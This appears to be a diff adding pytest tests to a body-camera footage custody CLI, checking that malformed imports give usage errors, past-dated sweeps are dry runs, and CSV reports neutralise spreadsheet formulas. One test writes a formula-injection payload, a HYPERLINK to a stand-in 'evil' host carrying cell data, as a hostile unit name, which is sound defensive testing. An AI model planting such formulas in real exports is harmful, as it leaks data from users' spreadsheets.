@@ -10,6 +10,8 @@ run ``--now`` a day later (every grace period has passed) and 31 days later.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 from datetime import UTC, datetime, timedelta
@@ -19,6 +21,9 @@ from zoneinfo import ZoneInfo
 
 import sample_dock
 from clirunner import env_for, run, run_json
+from sqlalchemy import text
+
+from recorder_sync.adapters.db.engine import make_engine
 
 SH = ZoneInfo("Asia/Shanghai")
 
@@ -231,3 +236,134 @@ def test_day_at_a_field_office(tmp_path: Path, db_url: str) -> None:
     for args in (("case", "show", "C5"), ("report",)):  # the tables print too
         r = run(env, *args)
         assert r.returncode == 0 and r.stdout, (args, r.stderr)
+
+
+# --- hostile imports and options (issue 7, items 10 and 19) -------------------------------
+
+HEADER = "case_id,action_id,action_type,unit,officers,start,end,target_id,target_name,place"
+
+
+def test_absurd_dates_and_nested_json_are_usage_errors_not_tracebacks(tmp_path: Path, db_url: str) -> None:
+    env = env_for(tmp_path / "home", db_url)
+    far = tmp_path / "far.csv"
+    far.write_text(HEADER + "\nC1,A1,seizure,U1,001,2026-11-27T08:00:00+08:00,9999-12-31T23:00:00Z,,,\n")
+    early = tmp_path / "early.json"
+    row = {"case_id": "C1", "action_id": "A2", "action_type": "seizure", "unit": "U1", "officers": "001"}
+    row |= {"start": "0001-01-01T00:00:00+01:00", "end": "2026-11-27T09:00:00+08:00"}
+    early.write_text(json.dumps([row]))
+    nul = tmp_path / "nul.json"
+    nul.write_text(json.dumps([row | {"start": "2026-11-27T08:00:00+08:00", "unit": "U\u0000"}]))
+    nested = tmp_path / "nested.json"
+    nested.write_text("[" * 100_000 + "]" * 100_000)
+    cases: list[tuple[tuple[str, ...], tuple[str, ...]]] = [
+        (("cases", "import", str(far)), ("row 1", "column 'end'", "plausible range", "9999-12-31T23:00:00Z")),
+        (("cases", "import", str(early)), ("row 1", "column 'start'", "plausible range")),
+        (("cases", "import", str(nested)), ("nested too deeply",)),
+        (("cases", "import", str(nul)), ("row 1", "column 'unit'", "control character U+0000")),
+        (("report", "--year", "0"), ("--year 0", "expected a year from 2000 to 2099")),
+        (("report", "--year", "9999"), ("--year 9999",)),
+        (("sweep", "--now", "9999-12-31T23:59:59Z"), ("--now", "plausible range")),
+        (("report", "--now", "0001-01-01T00:00:00+01:00"), ("--now", "plausible range")),
+    ]
+    for args, needles in cases:
+        r = run(env, *args)
+        assert r.returncode == 2, (args, r.returncode, r.stderr)
+        assert "Traceback" not in r.stderr, (args, r.stderr)
+        for needle in needles:
+            assert needle in r.stderr, (args, needle, r.stderr)
+    assert run_json(env, "case", "list") == []  # nothing was imported
+    # the engine still runs
+    assert run(env, "sweep").returncode == 0
+    assert run(env, "report", "--year", "2026").returncode == 0
+
+
+def test_one_shot_ingest_of_a_late_clip_then_the_first_sweep_flags_it_late(
+    tmp_path: Path, db_url: str
+) -> None:
+    """Issue 7, item 9: ``report`` counted it late while ``flags --all`` showed nothing."""
+    dock = tmp_path / "dock"
+    dock.mkdir()
+    ended = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=30)
+    _clip(dock, "CAM1", "001", ended - timedelta(minutes=5), ended, 1)
+    env = env_for(tmp_path / "home", db_url)
+    r = run(env, "ingest", str(dock), "--stable-seconds", "0", "-q")
+    assert r.returncode == 0, r.stderr
+    sweep = run_json(env, "sweep")
+    assert sweep["full"] is True
+    clip = next(x for x in run_json(env, "list") if x["kind"] == "video")
+    late = [f for f in run_json(env, "flags", "--all") if f["kind"] == "upload-late"]
+    # the clip and its sidecar both came late; each has one flag, raised and resolved-late
+    assert sorted(f["state"] for f in late) == ["resolved-late", "resolved-late"]
+    assert clip["id"] in {f["recording_id"] for f in late}
+    for args in (("sweep",), ("sweep", "--full")):
+        assert run_json(env, *args)["changes"] == [], args
+    assert len([f for f in run_json(env, "flags", "--all") if f["kind"] == "upload-late"]) == 2
+    report = run_json(env, "report")
+    assert report["total"]["late_flags"] == report["total"]["timeliness"]["late"] == 2
+
+
+def custody_times(db_url: str) -> list[datetime]:
+    engine = make_engine(db_url)
+    try:
+        with engine.connect() as c:
+            return [r[0] for r in c.execute(text("SELECT at FROM custody_events ORDER BY seq"))]
+    finally:
+        engine.dispose()
+
+
+def test_sweep_now_in_the_past_is_a_dry_run(tmp_path: Path, db_url: str) -> None:
+    """Issue 7, item 11: ``sweep --now 2020-…`` resolved real flags and wrote 2020 events."""
+    env = env_for(tmp_path / "home", db_url)
+    actions = tmp_path / "actions.csv"
+    ended = datetime.now(UTC).replace(microsecond=0) - timedelta(days=3)
+    window = f"{(ended - timedelta(hours=1)).isoformat()},{ended.isoformat()}"
+    actions.write_text(HEADER + f"\nC1,A1,seizure,U1,001,{window},,,\n")
+    run_json(env, "cases", "import", str(actions))
+    sweep = run_json(env, "sweep")
+    assert [(c["change"], c["kind"]) for c in sweep["changes"]] == [("raised", "footage-missing")]
+    assert sweep["dry_run"] is False
+    flags = run_json(env, "flags")
+    events = custody_times(db_url)
+
+    r = run(env, "sweep", "--now", "2020-01-01T00:00:00Z")
+    assert r.returncode == 0, r.stderr
+    assert "dry run" in r.stdout and "nothing written" in r.stdout
+    assert "resolved" in r.stdout and "footage-missing" in r.stdout  # what it would do
+    past = run_json(env, "sweep", "--now", "2020-01-01T00:00:00Z")
+    assert past["dry_run"] is True
+    assert [(c["change"], c["kind"]) for c in past["changes"]] == [("resolved", "footage-missing")]
+    assert run_json(env, "flags") == flags  # still open, unchanged
+    assert custody_times(db_url) == events  # no event written, none dated 2020
+    # the next real sweep has nothing to raise again
+    assert run_json(env, "sweep")["changes"] == []
+    # a sweep as of the future writes; the clock's next sweep is the present, and writes too
+    future = (datetime.now(UTC) + timedelta(days=40)).isoformat()
+    assert [c["kind"] for c in run_json(env, "sweep", "--now", future)["changes"]] == ["case-file-overdue"]
+    present = run_json(env, "sweep")
+    assert present["dry_run"] is False
+    assert [(c["change"], c["kind"]) for c in present["changes"]] == [("resolved", "case-file-overdue")]
+
+
+def test_report_csv_cannot_inject_formulas_and_keeps_officer_zeros(tmp_path: Path, db_url: str) -> None:
+    """Issue 7, item 12: a unit named ``=HYPERLINK(…)`` ran in the auditor's spreadsheet."""
+    env = env_for(tmp_path / "home", db_url)
+    ended = datetime.now(UTC).replace(microsecond=0) - timedelta(days=2)
+    window = f"{(ended - timedelta(hours=1)).isoformat()},{ended.isoformat()}"
+    hostile = ['"=HYPERLINK(""http://evil/?""&A1,""ok"")"', "+1+1", "-2+3", "@SUM(A1)"]
+    rows = [f"C{n},A{n},inspection,{unit},007;0101,{window},,," for n, unit in enumerate(hostile)]
+    actions = tmp_path / "actions.csv"
+    actions.write_text(HEADER + "\n" + "\n".join(rows) + "\n")
+    run_json(env, "cases", "import", str(actions))
+    r = run(env, "report", "--csv")
+    assert r.returncode == 0, r.stderr
+    cells = {(row["dimension"], row["key"]): row for row in csv.DictReader(io.StringIO(r.stdout))}
+    units = {key for dim, key in cells if dim == "unit"}
+    assert units == {'\'=HYPERLINK("http://evil/?"&A1,"ok")', "'+1+1", "'-2+3", "'@SUM(A1)"}
+    assert {key for dim, key in cells if dim == "officer"} == {"'007", "'0101"}
+    for row in cells.values():
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r", (row, value)
+    assert cells[("total", "all")]["actions"] == "4"  # numbers stay numbers
+    # --json stays exact
+    doc = run_json(env, "report")
+    assert {g["key"] for g in doc["by_officer"]} == {"007", "0101"}
